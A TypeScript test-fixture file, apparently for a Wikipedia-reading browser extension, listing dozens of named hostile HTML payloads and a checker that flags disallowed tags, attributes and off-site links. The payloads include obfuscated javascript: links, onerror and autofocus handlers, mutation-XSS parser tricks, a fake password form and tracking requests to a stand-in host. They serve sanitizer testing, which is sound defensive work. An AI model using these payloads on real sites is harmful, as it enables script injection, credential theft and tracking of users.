import { hostileMutations } from './hostile-mutations.ts';

/** What a payload leaves behind when one of its scripts runs. */
export const MARK = 'pwned';
const RUN = `window.${MARK}=1`;
/** A host that is none of the sources', where payloads try to reach. */
const AWAY = 'https://elsewhere.example';
const WIKI = 'https://en.wikipedia.org/wiki/Tisza';

/** HTML that tries to run, load, ask, restyle or lead away, each named by its trick. Written for these tests. */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script>`,
  'a script from elsewhere': `<script src="${AWAY}/a.js"></script>`,
  'a module script': `<script type="module">import "${AWAY}/m.js"</script>`,
  'an image that fails': `<img src=x onerror="${RUN}">`,
  'an image that reports': `<img src="${AWAY}/pixel.gif">`,
  'an image set': `<picture><source srcset="${AWAY}/a.webp 2x"><img srcset="${AWAY}/b.png"></picture>`,
  'an image by its old name': `<image src=x onerror=${RUN}>`,
  'a drawing that loads': `<svg onload="${RUN}"><circle r="9"/></svg>`,
  'a script in a drawing': `<svg><script>${RUN}</script></svg>`,
  'a link in a drawing': `<svg><a xlink:href="javascript:${RUN}"><text y="9">words</text></a></svg>`,
  'a drawing that uses another': `<svg><use href="${AWAY}/s.svg#a"></use></svg>`,
  'a drawing that animates a link': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/>words</a></svg>`,
  'HTML in a drawing': `<svg><foreignObject><iframe src="javascript:parent.${RUN}"></iframe></foreignObject></svg>`,
  'a formula with a link': `<math href="javascript:${RUN}"><mtext>words</mtext></math>`,
  'a formula that parses anew': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'a form in a form in a formula': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'a style that closes in an attribute': `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  'a title that closes in an attribute': `<title><a title="</title><img src=x onerror=${RUN}>">words</a></title>`,
  'a noscript that closes in an attribute': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'a template': `<template><img src=x onerror=${RUN}></template>`,
  'a shadow root in the markup': `<p><template shadowrootmode="open"><img src=x onerror=${RUN}></template></p>`,
  'a frame': `<iframe src="${AWAY}/frame.html"></iframe>`,
  'a frame with its own page': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'a frame set': `<frameset onload="${RUN}"><frame src="${AWAY}/f.html"></frameset>`,
  'an object': `<object data="${AWAY}/o.swf"></object>`,
  'an embedded thing': `<embed src="${AWAY}/e.svg" type="image/svg+xml">`,
  'a video': `<video src="${AWAY}/v.mp4" autoplay poster="${AWAY}/v.png" onloadstart="${RUN}"></video>`,
  'a sound': `<audio src=x onerror="${RUN}" autoplay controls></audio>`,
  'a form': `<form action="${AWAY}/take"><input name="password" type="password"><button>Sign in</button></form>`,
  'a button that sends elsewhere': `<button formaction="javascript:${RUN}">words</button>`,
  'a field that takes the focus': `<input autofocus onfocus="${RUN}">`,
  'a choice that takes the focus': `<select autofocus onfocus="${RUN}"><option>words</option></select>`,
  'a text field': `<textarea autofocus onfocus="${RUN}">words</textarea>`,
  'an opened fold': `<details open ontoggle="${RUN}"><summary>words</summary></details>`,
  'a running text': `<marquee onstart="${RUN}">words</marquee>`,
  'a dialog': `<dialog open>words</dialog><div popover id="pop">words</div><button popovertarget="pop">words</button>`,
  'a style sheet': `<style>@import "${AWAY}/a.css"; body { background: url(${AWAY}/b.png) }</style>`,
  'a linked style sheet': `<link rel="stylesheet" href="${AWAY}/l.css">`,
  'a preload': `<link rel="preload" as="image" href="${AWAY}/p.png"><link rel="dns-prefetch" href="//elsewhere.example">`,
  'a style attribute': `<p style="position:fixed;inset:0;background:url(${AWAY}/s.png)">words</p>`,
  'a background': `<table background="${AWAY}/t.png"><tr><td background="${AWAY}/c.png">words</td></tr></table>`,
  'a font that is a size': `<font size="7" color="red">words</font>`,
  'a page that moves on': `<meta http-equiv="refresh" content="0;url=${AWAY}/r.html">`,
  'another base': `<base href="${AWAY}/"><a href="wiki">words</a>`,
  'a body that loads': `<body onload="${RUN}" background="${AWAY}/b.png">words`,
  'a page within': `<html onmouseover="${RUN}"><head><title>words</title></head></html>`,
  'a script link': `<a href="javascript:${RUN}">words</a>`,
  'a script link in mixed case': `<a href="JaVaScRiPt:${RUN}">words</a>`,
  'a script link with a tab': `<a href="java\tscript:${RUN}">words</a>`,
  'a script link with entities': `<a href="&#106;avascript&colon;${RUN}">words</a>`,
  'a script link after controls': `<a href="\u0001\u0008 javascript:${RUN}">words</a>`,
  'a script link after an address': `<a href="javascript:/*https://en.wikipedia.org/*/${RUN}">words</a>`,
  'an old script link': `<a href="vbscript:msgbox(1)">words</a>`,
  'a link to data': `<a href="data:text/html,<script>${RUN}</script>">words</a>`,
  'a link to a blob': `<a href="blob:https://en.wikipedia.org/1">words</a>`,
  'a link to a file': `<a href="file:///etc/hosts">words</a>`,
  'a link into the extension': `<a href="/options.html">words</a>`,
  'a link without a scheme': `<a href="//elsewhere.example/x">words</a>`,
  'a link without TLS': `<a href="http://en.wikipedia.org/wiki/Tisza">words</a>`,
  'a link to a look-alike': `<a href="https://en.wikipedia.org.elsewhere.example/">words</a>`,
  'a link to a host that ends alike': `<a href="https://notwikipedia.org/">words</a>`,
  'a link with a user name': `<a href="https://en.wikipedia.org@elsewhere.example/">words</a>`,
  'a link with a backslash': `<a href="https://en.wikipedia.org\\@elsewhere.example/">words</a>`,
  'a link to another port': `<a href="https://en.wikipedia.org:8443/">words</a>`,
  'a link that pings': `<a href="${WIKI}" ping="${AWAY}/ping" download="x.exe" onclick="${RUN}">words</a>`,
  'a link in its own window': `<a href="${WIKI}" target="_top" rel="opener">words</a>`,
  'a link from a map': `<map name="m"><area href="javascript:${RUN}" shape="default"></map>`,
  'names that our code uses': `<p id="app" class="card" name="body">words</p><a id="browser" href="${WIKI}">words</a>`,
  'names that DOM code uses': `<form name="attributes"><input name="childNodes"><input id="nodeName"></form>`,
  'roles and order': `<p role="button" tabindex="1" accesskey="x" aria-label="Close" aria-hidden="true">words</p>`,
  'text to type over': `<p contenteditable="true" spellcheck="true" draggable="true">words</p>`,
  'data for scripts': `<p data-finding="name-1" data-x="1" slot="s" is="x-p" part="p" itemprop="url">words</p>`,
  'an element of a page': `<x-card onclick="${RUN}"><b>words</b></x-card>`,
  'an event in capitals': `<P ONMOUSEOVER="${RUN}" oNfOcUs=${RUN}>words</P>`,
  'an event with an entity': `<b on&#99;lick="${RUN}">words</b>`,
  'an event without a space': `<b/onclick=${RUN}>words</b>`,
  'an animation that starts': `<style>@keyframes a{}</style><p style="animation:a" onanimationstart="${RUN}">words</p>`,
  'a comment that is none': `<!--><img src=x onerror=${RUN}>--><!--[if IE]><script>${RUN}</script><![endif]-->`,
  'character data': `<svg><![CDATA[</svg><img src=x onerror=${RUN}>]]></svg>`,
  'an instruction': `<?xml-stylesheet href="${AWAY}/x.css"?><p>words</p>`,
  'plain text that is not': `<xmp><img src=x onerror=${RUN}></xmp><listing><img src=x onerror=${RUN}></listing>`,
  'a tag that is cut off': `<p>words<img src=x onerror="${RUN}" `,
  'tags that cross': `<b><p><i>words</b></i><a href="${WIKI}">words<a href="javascript:${RUN}">words</p>`,
  'zero bytes': `<scr\u0000ipt>${RUN}</scr\u0000ipt><img\u0000 src=x onerror=${RUN}>`,
  'a deep nest': `${'<div>'.repeat(300)}<img src=x onerror=${RUN}>${'</div>'.repeat(300)}`,
  'letters that turn': `<p>\u202Esdrow\u202C <b>words\u2066</b></p>`,
  'escaped markup': `&lt;img src=x onerror=${RUN}&gt; &amp;lt;script&amp;gt;`,
  ...hostileMutations({ run: RUN, away: AWAY, wiki: WIKI }),
};

const TAGS = 'p br span b i em strong sub sup ul ol li a'.split(' ');
const ATTRIBUTES = ['href', 'lang', 'dir', 'target', 'rel'];

/**
 * What is in an element that should not be in a text of Wikipedia's, in words; empty when all is well. Uses nothing from outside itself but its
 * arguments, so that it can be sent into a browser.
 */
export function strangeThingsIn(
  root: Element,
  tags: readonly string[] = TAGS,
  attributes: readonly string[] = ATTRIBUTES,
): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const strange = tags.includes(element.localName) ? [] : [`<${element.localName}>`];
    for (const { name, value } of element.attributes) {
      if (!attributes.includes(name)) strange.push(`${element.localName} ${name}=${value}`);
    }
    const href = element.getAttribute('href');
    if (element.localName === 'a') {
      const link = element as HTMLAnchorElement;
      const isOurs = /^https:\/\/(?:[a-z0-9-]+\.)+wikipedia\.org\/|^https:\/\/www\.wikidata\.org\//.test(
        link.href,
      );
      if (!isOurs) strange.push(`a link to ${href}`);
      if (link.target !== '_blank' || link.rel !== 'noopener noreferrer')
        strange.push(`a link that tells: ${href}`);
    }
    return strange;
  });
}

/** `strangeThingsIn` as an expression for a browser, for the first element that matches. */
export function strangeThingsExpression(selector: string): string {
  const place = `document.querySelector(${JSON.stringify(selector)})`;
  return `(${strangeThingsIn})(${place}, ${JSON.stringify(TAGS)}, ${JSON.stringify(ATTRIBUTES)})`;
}
